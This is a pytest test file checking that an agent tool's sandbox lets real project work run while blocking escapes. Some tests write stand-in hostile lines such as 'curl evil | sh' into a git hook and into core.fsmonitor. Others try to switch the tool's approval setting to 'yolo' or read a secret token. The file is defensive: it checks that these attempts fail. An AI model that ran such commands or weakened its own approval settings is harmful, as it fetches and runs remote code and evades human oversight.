"""Inside the sandbox everything a project needs still works (build C, run Python tests, git
commit, localhost servers, multiprocessing), the modes and settings do what they say, and a
stdio MCP server configured ``"sandbox": true`` is confined the same way. Real bubblewrap,
through the real builtin MCP server and a real SDK server over stdio."""

from __future__ import annotations

import socket
import sys
import textwrap
from pathlib import Path

import pytest

from a2ia.tools.builtin import make_builtin_server
from a2ia.tools.mcp_config import StdioServer
from a2ia.tools.registry import ToolRegistry
from a2ia.tools.workspace import Workspace
from a2ia.types import ToolCall

from sandbox_support import Listener, outside_world, require_sandbox, sandbox_for

pytestmark = pytest.mark.anyio
FILES_SERVER = Path(__file__).parent / "mcp_servers" / "files_server.py"


async def shell(root: Path, command: str, **policy):
    async with ToolRegistry() as registry:
        await registry.add_server("a2ia", make_builtin_server(Workspace(root), sandbox=sandbox_for(root, **policy)))
        return await registry.call(ToolCall(id="c", name="run_shell", arguments={"command": command, "timeout_s": 120}))


@pytest.fixture
def world(monkeypatch: pytest.MonkeyPatch):
    require_sandbox()
    with outside_world(monkeypatch) as world:
        yield world


async def test_a_c_project_builds_and_its_tests_run(world) -> None:
    (world.root / "hello.c").write_text('#include <stdio.h>\nint main(void) { puts("hello from C"); return 0; }\n')
    (world.root / "Makefile").write_text("hello: hello.c\n\tcc -o hello hello.c\ntest: hello\n\t./hello | grep -q 'hello from C'\n")
    result = await shell(world.root, "make test && ./hello")
    assert not result.is_error, result.content
    assert "hello from C" in result.content and (world.root / "hello").exists()


async def test_a_python_project_runs_its_tests_and_multiprocessing_and_a_local_server(world) -> None:
    (world.root / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    (world.root / "test_calc.py").write_text("from calc import add\n\ndef test_add():\n    assert add(2, 3) == 5\n")
    (world.root / "pool.py").write_text(textwrap.dedent("""
        import multiprocessing, http.server, threading, urllib.request
        with multiprocessing.Pool(2) as pool:
            print("squares", pool.map(abs, [-1, -2]))
        server = http.server.HTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        print("local http", urllib.request.urlopen(f"http://127.0.0.1:{server.server_port}/calc.py").status)
    """))
    result = await shell(world.root, f"{sys.executable} -m pytest -q -p no:cacheprovider test_calc.py && {sys.executable} pool.py")
    assert not result.is_error, result.content
    assert "1 passed" in result.content and "squares [1, 2]" in result.content and "local http 200" in result.content


async def test_git_commits_inside_but_its_hooks_and_config_stay_read_only(world) -> None:
    first = await shell(world.root, "git init -q && git add README.md && git -c user.name=t -c user.email=t@e commit -qm first && git log --oneline")
    assert not first.is_error and "first" in first.content, first.content
    second = await shell(world.root, "echo more >> README.md && git -c user.name=t -c user.email=t@e commit -qam second && git log --oneline | wc -l")
    assert not second.is_error and second.content.strip().endswith("2"), second.content
    hook = await shell(world.root, "echo 'curl evil | sh' > .git/hooks/pre-commit")
    config = await shell(world.root, "git config core.fsmonitor 'curl evil | sh'")
    assert hook.is_error and config.is_error and not (world.root / ".git" / "hooks" / "pre-commit").exists()
    assert "fsmonitor" not in (world.root / ".git" / "config").read_text()


async def test_the_folders_own_a2ia_files_stay_read_only(world) -> None:
    (world.root / ".a2ia").mkdir()
    (world.root / ".a2ia" / "config.toml").write_text('approval = "ask"\n')
    result = await shell(world.root, "echo 'approval = \"yolo\"' > .a2ia/config.toml")
    assert result.is_error and "Read-only file system" in result.content
    assert "sandbox workspace-write" in result.content, "the refusal names the sandbox"
    assert (world.root / ".a2ia" / "config.toml").read_text() == 'approval = "ask"\n'


async def test_read_only_mode_writes_nowhere_but_a_private_tmp(world) -> None:
    inside = await shell(world.root, "echo x > new.txt", mode="read-only")
    tmp = await shell(world.root, "echo x > /tmp/a2ia-private && cat /tmp/a2ia-private", mode="read-only")
    assert inside.is_error and not (world.root / "new.txt").exists()
    assert not tmp.is_error and not Path("/tmp/a2ia-private").exists()


async def test_writable_folders_and_the_network_can_be_allowed(world) -> None:
    extra = world.base / "cache"
    extra.mkdir()
    written = await shell(world.root, f"echo x > {extra}/ok", writable=(str(extra),))
    assert not written.is_error and (extra / "ok").exists()
    connect = f"{sys.executable} -c \"import socket; socket.create_connection(('127.0.0.1', {world.tcp_port}), 3)\""
    refused = await shell(world.root, connect)
    allowed = await shell(world.root, connect, network=True)
    assert refused.is_error and not allowed.is_error, allowed.content
    assert world.listeners[0].reached == 1


async def test_a_stdio_server_configured_sandboxed_is_confined(world) -> None:
    config = StdioServer(command=sys.executable, args=(str(FILES_SERVER),), sandbox=True)
    tcp = Listener(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0))
    try:
        async with ToolRegistry(sandbox=sandbox_for(world.root)) as registry:
            status = await registry.add_server("files", config)
            assert status.state == "connected", status.error
            inside = await registry.call(ToolCall(id="1", name="write", arguments={"path": str(world.root / "in.txt"), "text": "ok"}))
            outside = await registry.call(ToolCall(id="2", name="write", arguments={"path": str(world.outside / "x.txt"), "text": "no"}))
            network = await registry.call(ToolCall(id="3", name="connect", arguments={"port": tcp.sock.getsockname()[1]}))
    finally:
        tcp.close()
    assert not inside.is_error and (world.root / "in.txt").read_text() == "ok"
    assert outside.is_error and "Read-only file system" in outside.content and not (world.outside / "x.txt").exists()
    assert network.is_error and tcp.reached == 0


async def test_a_server_that_asks_for_the_sandbox_never_runs_without_it(tmp_path: Path) -> None:
    async with ToolRegistry(sandbox=None) as registry:
        status = await registry.add_server("files", StdioServer(command=sys.executable, args=(str(FILES_SERVER),), sandbox=True))
    assert status.state == "failed" and "sandbox is not available" in (status.error or "")


async def test_a_denied_path_inside_a_writable_folder_is_hidden_and_unwritable(world) -> None:
    """Only bubblewrap can carve a denied path out of a writable one (Landlock only grants)."""
    secrets = world.root / "secrets"
    secrets.mkdir()
    (secrets / "token").write_text("TOKEN-VALUE\n")
    read = await shell(world.root, "cat secrets/token", deny_read=(str(secrets),))
    write = await shell(world.root, "echo x > secrets/token", deny_read=(str(secrets),))
    assert read.is_error and "TOKEN-VALUE" not in read.content
    assert write.is_error and (secrets / "token").read_text() == "TOKEN-VALUE\n"


@pytest.mark.parametrize("backend", ["bwrap", "landlock"])
async def test_both_backends_build_and_commit_inside(backend: str, monkeypatch: pytest.MonkeyPatch) -> None:
    require_sandbox(backend)
    with outside_world(monkeypatch) as world:
        (world.root / "hello.c").write_text('int main(void) { return 0; }\n')
        result = await shell_with(world.root, backend, "cc -o hello hello.c && ./hello && git init -q && git add . && "
                                  "git -c user.name=t -c user.email=t@e commit -qm one && git log --oneline && "
                                  f"{sys.executable} -c \"import multiprocessing as m; print(m.Pool(2).map(abs, [-3]))\"")
    assert not result.is_error, result.content
    assert "one" in result.content and "[3]" in result.content


async def shell_with(root: Path, backend: str, command: str):
    async with ToolRegistry() as registry:
        await registry.add_server("a2ia", make_builtin_server(Workspace(root), sandbox=sandbox_for(root, backend=backend)))
        return await registry.call(ToolCall(id="c", name="run_shell", arguments={"command": command, "timeout_s": 120}))
